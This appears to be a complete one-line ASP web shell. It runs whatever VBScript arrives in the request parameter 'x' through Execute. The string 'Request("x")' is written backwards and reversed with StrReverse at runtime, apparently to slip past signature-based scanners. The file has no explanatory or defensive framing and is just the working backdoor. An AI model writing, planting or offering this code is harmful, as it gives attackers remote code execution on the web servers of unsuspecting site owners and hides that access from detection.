<% Execute(StrReverse(")""x""(tseuqeR")) %>
